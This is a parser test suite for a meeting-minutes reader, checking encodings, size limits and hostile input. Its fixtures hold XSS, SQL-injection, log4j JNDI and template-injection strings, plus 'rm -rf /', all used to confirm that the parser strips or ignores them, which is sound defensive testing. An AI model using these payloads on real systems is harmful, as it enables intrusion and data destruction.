import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readHtml } from '../../src/minutes/html/read-html.js';
import { decodeMinutes, MAX_MINUTES_BYTES, MinutesError, parseMinutes } from '../../src/minutes/index.js';
import type { ParsedMinutes } from '../../src/minutes/types.js';
import { unwrapLines } from '../../src/minutes/unwrap.js';

const EMPTY: ParsedMinutes = {
  meeting: { title: null, date: null },
  attendees: [],
  apologies: [],
  items: [],
  actions: [],
  nextMeeting: null,
};

/** Every string anywhere in the parse. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value && typeof value === 'object') return Object.values(value).flatMap(strings);
  return [];
}

const utf8 = (s: string) => new TextEncoder().encode(s);

describe('decodeMinutes', () => {
  it('refuses more than 5 MB with the size in the message', () => {
    const big = new Uint8Array(Math.round(6.2 * 1024 * 1024)).fill(0x61);
    expect(() => decodeMinutes(big)).toThrow(MinutesError);
    expect(() => decodeMinutes(big)).toThrow('Minutes file is 6.2 MB; the limit is 5 MB');
  });

  it('accepts exactly the limit', () => {
    expect(decodeMinutes(new Uint8Array(MAX_MINUTES_BYTES).fill(0x61))).toHaveLength(MAX_MINUTES_BYTES);
  });

  it('refuses an empty file', () => {
    expect(() => decodeMinutes(new Uint8Array())).toThrow(/empty/);
  });

  it('refuses binary files', () => {
    const pdf = new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d, 0x31, 0x2e, 0x34, 0x0a, 0x00, 0x01, 0x02]);
    expect(() => decodeMinutes(pdf)).toThrow(/not text/);
    const controls = new Uint8Array(100).map((_, i) => (i % 3 === 0 ? 0x01 : 0x41));
    expect(() => decodeMinutes(controls)).toThrow(/not text/);
  });

  it('refuses invalid UTF-8', () => {
    expect(() => decodeMinutes(new Uint8Array([0x4d, 0x69, 0x6e, 0xff, 0xfe, 0x75]))).toThrow(/UTF-8/);
  });

  it('strips a byte-order mark', () => {
    expect(decodeMinutes(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('Minutes')]))).toBe('Minutes');
  });

  it('reads UTF-16 text by its byte-order mark (Notepad\'s "Unicode"), little- and big-endian', () => {
    const text = 'Minutes – 3 October 2013\r\nAction: DfE to write to “all” members.';
    const le = new Uint8Array(2 + text.length * 2);
    const be = new Uint8Array(2 + text.length * 2);
    le.set([0xff, 0xfe]);
    be.set([0xfe, 0xff]);
    for (let i = 0; i < text.length; i += 1) {
      const c = text.charCodeAt(i);
      le.set([c & 0xff, c >> 8], 2 + i * 2);
      be.set([c >> 8, c & 0xff], 2 + i * 2);
    }
    expect(decodeMinutes(le)).toBe(text);
    expect(decodeMinutes(be)).toBe(text);
    // The mark does not make binary text: NULs and control characters are refused as before.
    expect(() => decodeMinutes(new Uint8Array([0xff, 0xfe, 0x41, 0x00, 0x00, 0x00, 0x42, 0x00]))).toThrow(
      /not text/,
    );
    expect(() => decodeMinutes(new Uint8Array([0xff, 0xfe, 0x41, 0x00, 0x00, 0xd8]))).toThrow(/UTF-16/);
  });

  it("reads Windows-1252 text (Word's plain-text default) whose few high bytes are quotes, dashes and accents", () => {
    // "Minutes – 3 October 2013", "DfE to review the ‘café’ leaflet", "£5,000", NBSP.
    const bytes = new Uint8Array([
      ...utf8('Minutes '),
      0x96,
      ...utf8(' 3 October 2013\nAction: DfE to review the '),
      0x91,
      ...utf8('caf'),
      0xe9,
      0x92,
      ...utf8(' leaflet for the partnership at a cost of '),
      0xa3,
      ...utf8('5,000.'),
      0xa0,
      ...utf8('Next meeting: 5 December 2013.\n'),
    ]);
    expect(decodeMinutes(bytes)).toBe(
      'Minutes – 3 October 2013\nAction: DfE to review the ‘café’ leaflet for the partnership at a cost of £5,000.\u00a0Next meeting: 5 December 2013.\n',
    );
  });

  it('reads a Windows-1252 leader of one character repeated, as a signature line draws it', () => {
    // "Chair: ……………" (0x85 over and over), then a dash rule (0x97).
    const bytes = new Uint8Array([
      ...utf8(`${'Members noted the report. '.repeat(30)}The meeting closed at 8.05 pm.\n\nChair: `),
      ...new Array(20).fill(0x85),
      ...utf8('\n'),
      ...new Array(8).fill(0x97),
      ...utf8('\n'),
    ]);
    expect(decodeMinutes(bytes)).toBe(
      `${'Members noted the report. '.repeat(30)}The meeting closed at 8.05 pm.\n\nChair: ${'…'.repeat(20)}\n${'—'.repeat(8)}\n`,
    );
  });

  it('still refuses bytes that are neither UTF-8 nor Windows-1252 text', () => {
    // A run of high bytes, a byte Windows-1252 leaves undefined, high bytes in bulk.
    expect(() =>
      decodeMinutes(new Uint8Array([...utf8('Minutes of the meeting '), 0xc3, 0xff, 0xfe])),
    ).toThrow(/UTF-8/);
    expect(() => decodeMinutes(new Uint8Array([...utf8('Minutes of the meeting '), 0x81]))).toThrow(/UTF-8/);
    // An escape sequence beside a lone high byte: a damaged file, not a Word export.
    expect(() =>
      decodeMinutes(
        new Uint8Array([...utf8('Minutes of the meeting of the Board \x1b[31m held on 3 May '), 0xe9]),
      ),
    ).toThrow(/UTF-8/);
    const bulk = new Uint8Array(200).map((_, i) => (i % 4 === 0 ? 0xe9 : 0x61));
    expect(() => decodeMinutes(bulk)).toThrow(/UTF-8/);
  });
});

describe('parseMinutes on hostile input', () => {
  it('returns the empty shape for an empty string and for whitespace', () => {
    expect(parseMinutes('')).toEqual(EMPTY);
    expect(parseMinutes(' \n\t\f\r\n')).toEqual(EMPTY);
  });

  it('returns the empty shape for binary noise', () => {
    const noise = String.fromCharCode(...Array.from({ length: 4000 }, (_, i) => (i * 7919) % 256));
    expect(parseMinutes(noise)).toEqual(EMPTY);
  });

  it('gives the empty shape for HTML nested thousands deep, and reads HTML nested as exports nest it', () => {
    const deep = (open: string, close: string) =>
      `<!DOCTYPE html><html><body><h1>Strategy Board</h1><p>Action: NCA to report.</p>${open.repeat(20_000)}x${close.repeat(20_000)}</body></html>`;
    // (Read, not thrown out of: the reader's walk would run out of stack.)
    expect(readHtml(deep('<ul><li>', '</li></ul>')).blocks).toEqual([]);
    expect(parseMinutes(deep('<ul><li>', '</li></ul>'))).toEqual(EMPTY);
    expect(parseMinutes(deep('<div>', ''))).toEqual(EMPTY);
    // Forty levels of lists and divs, and thousands of paragraphs and cells that close themselves.
    const nested = `${'<div><ul><li>'.repeat(40)}Action: NCA to report.${'</li></ul></div>'.repeat(40)}`;
    const flat = `${'<p>Noted.'.repeat(5000)}<table>${'<tr><td>a<td>b'.repeat(3000)}</table>`;
    const doc = `<!DOCTYPE html><html><body><h1>Strategy Board</h1>${flat}${nested}</body></html>`;
    expect(parseMinutes(doc).actions.map((a) => a.text)).toEqual(['NCA to report']);
  });

  it('reads no more than 100,000 cells of an HTML table whose every row spans fifty below it', () => {
    const table = (rows: string) =>
      readHtml(`<!DOCTYPE html><html><body><table>${rows}</table></body></html>`);
    const cells = (doc: ReturnType<typeof readHtml>) =>
      doc.blocks.flatMap((b) => (b.kind === 'table' ? b.rows.flat() : [])).length;
    expect(cells(table('<tr><td rowspan="50">a</td><td>b</td></tr>'.repeat(5000)))).toBeLessThanOrEqual(
      100_100,
    );
    // A log of a thousand actions is read whole.
    expect(
      cells(table('<tr><td>Publish the data</td><td>NCA</td><td>1 May 2020</td></tr>'.repeat(1000))),
    ).toBe(3000);
  });

  it('returns for a single 5 MB line, with no megabyte "action" from it', () => {
    expect(parseMinutes('a '.repeat(2.5 * 1024 * 1024))).toEqual(EMPTY);
    expect(parseMinutes(`Actions: ${'<p>Home Office to '.repeat(300_000)}`)).toEqual(EMPTY);
    // The same label over real actions still gives them.
    expect(
      parseMinutes(`Actions: ${'<p>Home Office to circulate the paper.</p> '.repeat(20)}`).actions.map(
        (a) => a.text,
      ),
    ).toEqual(['Home Office to circulate the paper']);
  });

  it('reads no person from an inline list whose brackets are left open, nor from "[]"', () => {
    const lines = [
      'Attendees: [];',
      ...Array.from({ length: 400 }, (_, i) => `const x${i} = f(a, b; c(d; e;`),
    ];
    const p = parseMinutes(lines.join('\n'));
    expect(p.attendees.filter((a) => a.name.length > 300 || !/[A-Za-z]{2}/.test(a.name))).toEqual([]);
  });

  it('gives the empty extraction for labels and runs with no words in them', () => {
    const text = [
      "'; DROP TABLE actions; --",
      `${'Actions:'.repeat(5000)}`,
      `ACTION: ${'A'.repeat(70_000)}`,
      `Action: ${'Home Office to '.repeat(200)}`,
    ].join('\n');
    expect(parseMinutes(text)).toEqual(EMPTY);
  });

  it('reads a short record whose header dates the meeting, while numbered lines alone stay empty', () => {
    const parsed = parseMinutes(
      ['Strategy Board', '', 'Date: 8 March 2016', '', '1. Welcome', '', 'Agreed.'].join('\n'),
    );
    expect(parsed.meeting).toEqual({ title: 'Strategy Board', date: '2016-03-08' });
    expect(parsed.items).toEqual([{ number: '1', title: 'Welcome' }]);
    expect(parseMinutes(['Strategy Board', '', '1. Welcome', '', 'Agreed.'].join('\n'))).toEqual(EMPTY);
  });

  it('gives the empty extraction for "Official" alone under "Attendees:" after thousands of tabs and "<p>"s', () => {
    const text = [
      '<p>'.repeat(20_000),
      'Attendees:',
      `${'\t'.repeat(5000)}Official`,
      'Apologies:',
      'Officials',
      '1.'.repeat(20_000),
    ].join('\n');
    expect(parseMinutes(text)).toEqual(EMPTY);
  });

  it("gives the empty extraction for the practice set's hostile text without its binary parts", () => {
    // What decodeMinutes lets through once the PDF stream, the NULs and the invalid UTF-8 are gone:
    // labels whose subjects were Slack mentions, and "attendees" that are template and SQL strings.
    const text = [
      '<html><head><script>alert(document.cookie)</script></head><body onload="x()">',
      '<!channel> <!here> <@U024BE7LH> <https://example.invalid/m.exe|Open>',
      'Attendees:',
      '<!channel>\t<@U024BE7LH> <i>CHAIR</i>',
      '{{user.name}}\t${process.env.SECRET}',
      "'; DROP TABLE actions; --\t<script>x</script>",
      `Home Office\t${'Official (for '.repeat(2000)}`,
      "1. <!channel> <script>alert('item')</script>",
      'Actions:',
      '<@U024BE7LH> to <!here>',
      'Dates: 31 February 2013, 13/13/2013, 32nd Smarch 2012, 99:99 am, 25.00 pm',
      'The next IDMG meeting will be held on 31 February 2013, from 25.00 pm to 26:99.',
      '',
      'Action: <@U0000001> to by 31 February 2013.',
      `Actions:\n${'<!channel> to <!everyone>\n'.repeat(50)}`,
    ].join('\n');
    expect(parseMinutes(decodeMinutes(utf8(text)))).toEqual(EMPTY);
    // A task with no subject is kept when a field names its owner.
    expect(parseMinutes('1. Data\nAction: to circulate the figures (Owner: NCA).').actions).toEqual([
      { owners: ['NCA'], text: 'to circulate the figures', item: '1', due: null },
    ]);
  });

  it('takes page numbers and markings out of an HTML paragraph, so none becomes an owner or text', () => {
    const parsed = parseMinutes(
      [
        '<html><body><h1>Westshire Partnership</h1><p>Minutes of the meeting of 3 April 2019</p>',
        '<p>1. Data</p>',
        '<p>Action: Home Office to circulate the<br>Page 2 of 3<br>OFFICIAL<br>report by 3 May 2019.</p>',
        '<p>Actions:<br>Page 3 of 3<br>to <b>review</b></p>',
        '</body></html>',
      ].join('\n'),
    );
    expect(parsed.actions).toEqual([
      {
        owners: ['Home Office'],
        text: 'Home Office to circulate the report by 3 May 2019',
        item: '1',
        due: '2019-05-03',
      },
    ]);
  });

  it('gives the empty extraction for hostile text whose only minutes-like lines are an attendee', () => {
    // No date, no item, no action: "Attendees:" over one body and person among scripts, Slack
    // mentions and injection strings records no meeting, and its injection line is no title.
    const text = [
      '<html><head><title>Minutes</title><script>alert(document.cookie)</script></head>',
      '<!channel> <!here> <@U024BE7LH> <https://example.invalid/m.exe|Open the minutes>',
      // A log4j lookup written as the hostile text has it, not a template.
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the characters are the test's input
      "*URGENT* _please_ ~ignore~ `code` ```rm -rf /``` {{7*7}} ${jndi:ldap://example.invalid/a} '; DROP TABLE minutes; --",
      '',
      'Attendees:',
      '',
      '<!channel>\t<@U024BE7LH> <i>CHAIR</i>',
      'Home Office\tOfficial (for Minister)',
      "1. <!channel> <script>alert('item')</script>",
      'Actions:',
      '<@U024BE7LH> to <!here>',
      "The next IDMG meeting will be held on 13 March 2013 at <script>document.write('x')</script>.",
    ].join('\n');
    expect(parseMinutes(decodeMinutes(utf8(text)))).toEqual(EMPTY);
    // A dated record with only its attendance is still read.
    expect(
      parseMinutes('Strategy Board\n4 March 2014\n\nAttendees:\nHome Office\tOfficial').attendees,
    ).toEqual([{ organisation: 'Home Office', name: 'Official', role: null, deputisingFor: null }]);
  });

  it('takes no action whose task is injected code after its label ("ACTION: {{constructor…}} to run")', () => {
    const text = [
      'Inter-Departmental Ministerial Group on Human Trafficking',
      '',
      'Present:',
      '<!everyone>\t<@W0123ABCD> (Chair)',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the characters are the test's input
      'ACTION: <!channel> to ${jndi:ldap://example.invalid/x} by 30 February 2014',
      'ACTION: {{constructor.constructor("alert(1)")()}} to run',
      'Action: <a href="javascript:alert(3)">NCA</a> to open javascript:alert(3) now',
    ].join('\n');
    expect(parseMinutes(decodeMinutes(utf8(text)))).toEqual(EMPTY);
    // A task in words beside them is read as ever.
    expect(
      parseMinutes(
        `Board\n4 March 2014\n\n1. Data\nACTION: NCA to share the figures {by 1 May}.`,
      ).actions.map((a) => a.owners),
    ).toEqual([['NCA']]);
  });

  it('heads no item with code, takes no owner\'s "to" whose task was markup, and no entry whose body was markup', () => {
    const text = [
      '<!channel> MINUTES <!here>',
      '',
      'Attendees:',
      'Home Office\tOfficial',
      '<@U024BE7LH>\tOfficial (for <!channel>)',
      '',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the characters are the test's input
      '1. ${jndi:ldap://example.invalid/a}',
      '2. {{7*7}}',
      "3. '; DROP TABLE minutes; --",
      'Actions:',
      'Home Office to <script>alert(1)</script>',
      '<!channel> to review <!here>',
      '',
      "ACTION: ' OR '1'='1",
      'ACTION: rm -rf / --no-preserve-root',
      'Next meeting: 13 March 2013 at <script>x</script>',
    ].join('\n');
    expect(parseMinutes(decodeMinutes(utf8(text)))).toEqual(EMPTY);
    // In a dated record the entry whose body was markup is still no one, beside one that is someone.
    expect(
      parseMinutes(
        'Board\n4 March 2014\n\nAttendees:\nHome Office\tOfficial\n<@U1>\tOfficial (for <!channel>)\n\n1. Data',
      ).attendees,
    ).toEqual([{ organisation: 'Home Office', name: 'Official', role: null, deputisingFor: null }]);
  });

  it('returns for 5 MB of markup and punctuation that tempts backtracking', () => {
    for (const unit of ['<!', '<p', '((((', '1.1.1.', 'next meeting ', '    \t', '13 ', 'Owner: ', '| a ']) {
      const text = unit.repeat(Math.ceil((5 * 1024 * 1024) / unit.length));
      expect(() => parseMinutes(text)).not.toThrow();
    }
  });

  it('returns for megabytes of prose hard-wrapped at 70 characters, joined a paragraph at a time', () => {
    const words =
      'the board noted that referrals continue to rise and asked the home office to report on trends and the actions of'.split(
        ' ',
      );
    const lines = [
      'Strategy Board',
      'Minutes of the meeting held on 3 March 2014',
      'Present: Jo Smith (DWP)',
      '1. Data',
    ];
    let line = '';
    for (let i = 0; lines.length < 60_000; i += 1) {
      const word = words[i % words.length] ?? '';
      if (`${line} ${word}`.length > 70) {
        lines.push(line);
        line = word;
      } else line = line === '' ? word : `${line} ${word}`;
    }
    // The stage joins a paragraph at a time, never the whole text into one megabyte line.
    expect(Math.max(...unwrapLines(lines).map((l) => l.length))).toBeLessThan(3100);
    const parsed = parseMinutes(lines.join('\n'));
    expect(parsed.items).toEqual([{ number: '1', title: 'Data' }]);
    expect(parsed.actions).toEqual([]);
  });

  it('strips HTML, scripts and Slack control sequences from every output string', () => {
    const text = [
      'Inter-Departmental Ministerial Group on <b>Human Trafficking</b>',
      '17 April 2012',
      'Attendees:',
      'Home Office\tDamian Green MP <script>alert(1)</script>',
      'DfE\t<@U123ABC> Official',
      '',
      '2. <i>Olympics</i> <!here>',
      'ACTION: DfE to warn <!channel> and <@U999> and <#C123|general> via <https://evil.example|click here>.',
      'ACTION: Home Office to read <https://gov.uk/report> <img src=x onerror=alert(1)>',
    ].join('\n');
    const p = parseMinutes(text);
    for (const s of strings(p)) {
      expect(s).not.toMatch(/<[!@#]|<\/?[a-z]|script|alert/i);
    }
    expect(p.actions.map((a) => a.text)).toEqual([
      'DfE to warn and and via click here',
      'Home Office to read https://gov.uk/report',
    ]);
    expect(p.attendees.map((a) => a.name)).toEqual(['Damian Green MP', 'Official']);
    expect(p.items).toEqual([{ number: '2', title: 'Olympics' }]);
  });

  it('never throws and never echoes a Slack control sequence (property)', () => {
    const pieces = fc.constantFrom(
      '<!channel>',
      '<@U1>',
      '<#C1|x>',
      '<!',
      '<',
      '<<',
      '>',
      '|',
      '\t',
      '\n',
      '\f',
      'Actions:',
      'ACTION: DfE to ',
      'Attendees:',
      'Home Office\t',
      '2. Title',
      '<p>',
      '</p>',
      'next meeting 13 September 2012 10.30 am to 12 pm at ',
      '(Owner: ',
      ')',
      ' ',
    );
    const hostile = fc.oneof(
      fc.string(),
      fc.array(pieces, { maxLength: 40 }).map((a) => a.join('')),
    );
    fc.assert(
      fc.property(hostile, (text) => {
        const p = parseMinutes(text);
        for (const s of strings(p)) {
          if (/<[!@#]/.test(s)) return false;
        }
        return true;
      }),
      { numRuns: 500 },
    );
  });
});
